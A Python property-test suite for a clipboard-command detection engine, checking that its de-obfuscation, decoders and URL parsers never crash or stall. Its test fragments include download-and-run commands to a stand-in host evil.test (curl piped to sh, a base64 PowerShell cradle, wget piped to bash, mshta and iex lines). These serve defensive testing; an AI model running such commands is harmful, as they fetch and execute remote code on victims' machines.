"""Property tests for everything that reads attacker-controlled text: it never raises, stays fast.

Whatever a web page puts on the clipboard reaches `Engine.analyze` and, through it, the Unicode
folding, the de-obfuscation, the decoders, the URL parser and the command reader. None of them
may raise or stall on any input, because the guard then fails open.
"""

from __future__ import annotations

import base64
import gc
import ipaddress
import time
from collections.abc import Callable, Iterator

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget, Verdict
from app.detection.clock import budget_clock
from app.detection.commands import CommandStructure, read_commands
from app.detection.decoders import DECODERS, MAX_CANDIDATES, MAX_DECODED
from app.detection.deobfuscate import deobfuscate
from app.detection.indicators import defang, find_urls, parse_ip, parse_url
from app.detection.unicode_fold import fold

# Analysis of a few KiB should take well under a millisecond; 100 ms is the budget promised for
# any input, and 0.25 s leaves room for a loaded two-core CI machine without hiding a stall.
TIME_LIMIT_S = 0.25
# The base64 decoder looks at up to 4 x MAX_CANDIDATES runs per layer, the others at fewer.
MAX_YIELDS = 4 * MAX_CANDIDATES

# Every Unicode category, including controls, formats (bidi, zero-width), private use and
# unassigned code points; only lone surrogates, which a Python str from the clipboard can't
# hold after decoding, are left out.
any_char = st.characters(exclude_categories=("Cs",))
any_text = st.text(any_char, max_size=2000)

_B64_CRADLE = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a')".encode("utf-16-le")
).decode()

# Pieces of real obfuscation tricks, so that generated text exercises the rewrites and decoders
# rather than only falling through their fast paths.
FRAGMENTS = [
    "^", "^^", "`", "``", '"', '""', "'", "''", "(", ")", "[", "]", "{", "}", "$(", "+", "&", "&&",
    "|", "||", ";", "%", "!", ":~", ",", "\n", "\r\n", "\t", " ", "=", "-f", "{0}{1}",
    "%COMSPEC:~-6,1%", "%COMSPEC:~0,1%", "%ComSpec:~-1%", "%windir:~4,-3%",
    "$env:ComSpec[4,15,25]", "$env:ComSpec[-1]", "$env:x[99999]", "-join''",
    "set x=pow&&", "set y=ershell&&", "set \"z=mshta\"&&", "!x!", "!y!", "%x%", "%y%",
    "$a='iex';", "$a", "'ms'+'hta'", "'pow' + 'er' + 'shell'", "(\"{1}{0}\" -f 'hta','ms')",
    "powershell -enc ", "powershell -e ", "-EncodedCommand ", _B64_CRADLE,
    "aWV4IChpcm0gaHR0cHM6Ly9ldmlsLnRlc3QvYSk=", "SGVsbG8gd29ybGQhIEhlbGxvIQ==", "====",
    "[Convert]::FromBase64String(", "echo ", " | base64 -d | sh", " | base64 -D",
    "[char]105+[char]101+[char]120", "String.fromCharCode(105,101,120,32)", "atob('",
    "\\x69\\x65\\x78\\x20", "\\u0069\\u0065\\u0078", "\\u{69}", "%69%65%78%20",
    "http://", "https://", "hxxps://", "hxxp[:]//", "[.]", "http:\\\\", "0x7f000001",
    "0177.0.0.1", "2130706433", "@", "evil.test", "/a.ps1", "?code=",
    "\\\\host@SSL\\", "\\\\10.0.0.1@8080\\share\\", "\\\\?\\",
    "\u200b", "\u200c", "\u200d", "\ufeff", "\u202e", "\u202d", "\u2066", "\u2069", "\u00ad",
    "\u2003", "\u00a0", "\u3000", "\u2028", "\u0301", "\x00", "\x7f",
    "сurl", "роwershell", "hυmаn", "ＰＯＷＥＲＳＨＥＬＬ", "ﬁ", "\u2013", "\u201c",
    "#", "# I am not a robot - Verification ID: 1234", "REM ", "::", "✅",
    "curl -fsSL https://evil.test/x.sh | sh", "wget -qO- http://1.2.3.4/x | bash",
    "iex (irm ", "mshta ", "rundll32 ", "cmd /c ", "conhost --headless ", "sudo ",
    "irm https://get.scoop.sh | iex", "https://sh.rustup.rs@evil.test",
    "javascript:", "document.cookie", "fetch(", "osascript -e ", "[::-1]", "::Reverse(",
]  # fmt: skip

fragment_text = st.lists(
    st.one_of(st.sampled_from(FRAGMENTS), st.text(any_char, max_size=6)), max_size=300
).map("".join)
# One trick repeated many times: where linear work turns quadratic, it shows here.
repeated_text = st.builds(
    lambda parts, n: "".join(parts) * n,
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=3),
    st.integers(min_value=1, max_value=400),
).map(lambda s: s[:8192])

hostile_text = st.one_of(any_text, fragment_text, repeated_text)

contexts = st.builds(
    Context,
    source=st.one_of(
        st.none(),
        st.text(any_char, max_size=200),
        st.sampled_from(
            ["https://evil.test/verify", "http://captcha.evil.test/", "HTTPS://x", "firefox", ""]
        ),
        st.builds(lambda s: "https://" + s, st.text(any_char, max_size=60)),
    ),
    target=st.sampled_from(list(PasteTarget)),
)


@pytest.fixture(scope="module", autouse=True)
def _warm(engine: Engine) -> Iterator[None]:
    # The first call pays for lazy imports and RE2 caches; the time limit is about the steady state.
    engine.analyze("powershell -enc " + _B64_CRADLE)
    # The whole test session's objects are moved out of the collector's way: a full collection
    # of them, landing inside one analysis, once cost 271 ms of CPU that was not the engine's.
    gc.collect()
    gc.freeze()
    yield
    gc.unfreeze()


def _check_verdict(engine: Engine, text: str | bytes, context: Context | None = None) -> Verdict:
    started, wall_started = budget_clock(), time.perf_counter()
    verdict = engine.analyze(text, context)
    cpu, wall = budget_clock() - started, time.perf_counter() - wall_started
    assert isinstance(verdict, Verdict)
    assert isinstance(verdict.level, Level)
    assert 0 <= verdict.score <= 100
    assert verdict.summary.strip(), "every verdict needs a sentence for the warning dialog"
    # CPU time: the work the text costs, not how busy the machine is (wall time is bench's)
    assert cpu < TIME_LIMIT_S, f"analysis of {len(text)} characters took {cpu * 1000:.1f} ms CPU"
    assert 0 < verdict.elapsed_ms <= wall * 1000 + 1
    if not verdict.complete:  # fail closed: a cut-short analysis is never clean
        assert verdict.level >= Level.SUSPICIOUS
    for finding in verdict.findings:
        assert finding.rule_id and finding.explanation.strip()
    return verdict


# -- the engine ----------------------------------------------------------------------------------


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=any_text)
def test_engine_takes_any_unicode_text(engine: Engine, text: str) -> None:
    _check_verdict(engine, text)


@settings(max_examples=800, deadline=None)
@given(data=st.binary(max_size=4096))
def test_engine_takes_any_bytes(engine: Engine, data: bytes) -> None:
    _check_verdict(engine, data)


# one long word with no slash, found by this test: the lure-tail's address pattern once tried
# every position of it to its end (300 ms of CPU for 8 KiB)
_SLASHLESS_WORD = ("::Reverse(\\\\10.0.0.1@8080\\share\\" * 300)[:8192]


@settings(max_examples=2000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.one_of(fragment_text, repeated_text))
@example(text=_SLASHLESS_WORD)
def test_engine_takes_mixed_obfuscation_tricks(engine: Engine, text: str) -> None:
    _check_verdict(engine, text)


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=hostile_text, context=contexts)
def test_engine_takes_any_context(engine: Engine, text: str, context: Context) -> None:
    verdict = _check_verdict(engine, text, context)
    assert verdict.context == context


def test_a_web_command_into_the_run_dialog_is_never_merely_info(engine: Engine) -> None:
    # Guards the property tests above against passing on an engine that flags nothing.
    context = Context(source="https://evil.test/verify", target=PasteTarget.RUN_DIALOG)
    verdict = _check_verdict(engine, "irm https://get.scoop.sh | iex", context)
    assert verdict.level >= Level.SUSPICIOUS


# -- the pieces ----------------------------------------------------------------------------------


@settings(max_examples=1000, deadline=None)
@given(text=hostile_text)
def test_fold_never_raises_and_leaves_no_invisibles(text: str) -> None:
    folded = fold(text)
    assert isinstance(folded, str)
    assert "\x00" not in folded
    assert not set(folded) & {"\u200b", "\u200d", "\ufeff", "\u202e", "\u2066"}
    assert fold(folded) == folded, "folding twice must not change the text again"


# `set x=` + 200 characters, then a format string that repeats 26 references to it 40 times.
_EXPANSION_BOMB = "set x=" + "A" * 200 + "&&" + '("' + "{0}" * 40 + "\" -f '" + "%x%" * 26 + "')"


@settings(max_examples=1000, deadline=None)
@given(text=hostile_text)
@example(text=_EXPANSION_BOMB)
def test_deobfuscate_never_raises_and_stays_bounded(text: str) -> None:
    started = budget_clock()
    out = deobfuscate(text)
    assert budget_clock() - started < TIME_LIMIT_S
    assert isinstance(out, str)
    # One `%x%` (3 characters) may stand for a 200-character value, so a text can grow about
    # 67-fold; substitutions that feed each other must not multiply beyond that.
    assert len(out) <= 70 * len(text) + 1024, f"{len(text)} characters became {len(out)}"


def _drain(decoder: Callable[[str], Iterator[str]], text: str) -> list[str]:
    out = []
    for item in decoder(text):
        out.append(item)
        assert len(out) <= MAX_YIELDS, "a decoder must stop after a fixed number of texts"
    return out


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=hostile_text)
@pytest.mark.parametrize("name", sorted(DECODERS))
def test_decoders_never_raise_and_yield_bounded_output(name: str, text: str) -> None:
    for decoded in _drain(DECODERS[name], text):
        assert isinstance(decoded, str)
        assert len(decoded) <= MAX_DECODED


@settings(max_examples=60, deadline=None)
@given(
    payloads=st.lists(st.binary(min_size=8, max_size=60), min_size=1, max_size=80),
    sep=st.sampled_from([" ", "\n", ";", "'+'"]),
)
def test_base64_decoder_stops_after_a_fixed_number_of_blobs(
    payloads: list[bytes], sep: str
) -> None:
    texts = ["echo " + p.hex() for p in payloads]
    text = sep.join(base64.b64encode(t.encode()).decode() for t in texts)
    decoded = _drain(DECODERS["base64"], text)  # at most MAX_YIELDS, whatever the input
    # every blob is read on its own; blobs of one width on consecutive lines are also read
    # joined, as a wrapped block (a text of their own, within the same bound)
    assert len(decoded) >= min(len(payloads), MAX_YIELDS)
    alone = [d for d in decoded if d in texts]
    assert len(alone) >= min(len(payloads), MAX_YIELDS) - (len(decoded) - len(alone))
    if sep != "\n":
        assert len(decoded) == min(len(payloads), MAX_YIELDS)


@settings(max_examples=1000, deadline=None)
@given(text=hostile_text)
def test_find_urls_never_raises(text: str) -> None:
    urls = find_urls(text)
    assert len(urls) <= 64
    for url in urls:
        assert url.host
        assert url.scheme == url.scheme.lower()
    assert len({u.full for u in urls}) == len(urls), "each URL is reported once"


@settings(max_examples=1000, deadline=None)
@given(
    raw=st.one_of(
        any_text,
        st.builds(
            lambda scheme, rest: scheme + rest,
            st.sampled_from(
                ["http://", "https://", "hxxps[:]//", "http:\\\\", "ftp://", "FILE://"]
            ),
            st.text(any_char, max_size=200),
        ),
    )
)
def test_parse_url_never_raises(raw: str) -> None:
    parsed = parse_url(raw)
    if parsed is not None:
        assert parsed.host and parsed.host == parsed.host.lower()
        assert parsed.path.startswith("/")


@settings(max_examples=1000, deadline=None)
@given(
    host=st.one_of(
        any_text,
        st.lists(
            st.one_of(
                st.integers(min_value=0, max_value=2**40).map(str),
                st.integers(min_value=0, max_value=2**40).map(hex),
                st.integers(min_value=0, max_value=2**40).map(lambda n: "0" + oct(n)[2:]),
                st.text("0123456789abcdefxX", max_size=12),
            ),
            min_size=1,
            max_size=6,
        ).map(".".join),
    )
)
def test_parse_ip_never_raises_and_gives_a_real_address(host: str) -> None:
    result = parse_ip(host)
    if result is not None:
        address, _obfuscated = result
        ipaddress.ip_address(address)  # a valid address, whatever way it was written


@settings(max_examples=1000, deadline=None)
@given(text=st.one_of(hostile_text, st.builds(lambda a, b: a + "http://" + b, any_text, any_text)))
def test_defang_never_leaves_a_clickable_web_address(text: str) -> None:
    out = defang(text).lower()
    assert "http://" not in out and "https://" not in out, repr(text)


@settings(max_examples=1000, deadline=None)
@given(text=hostile_text)
def test_read_commands_never_raises(text: str) -> None:
    structure = read_commands(text)
    assert isinstance(structure, CommandStructure)
    assert len(structure.programs) <= 64
    assert all(isinstance(p, str) and p == p.lower() for p in structure.programs)
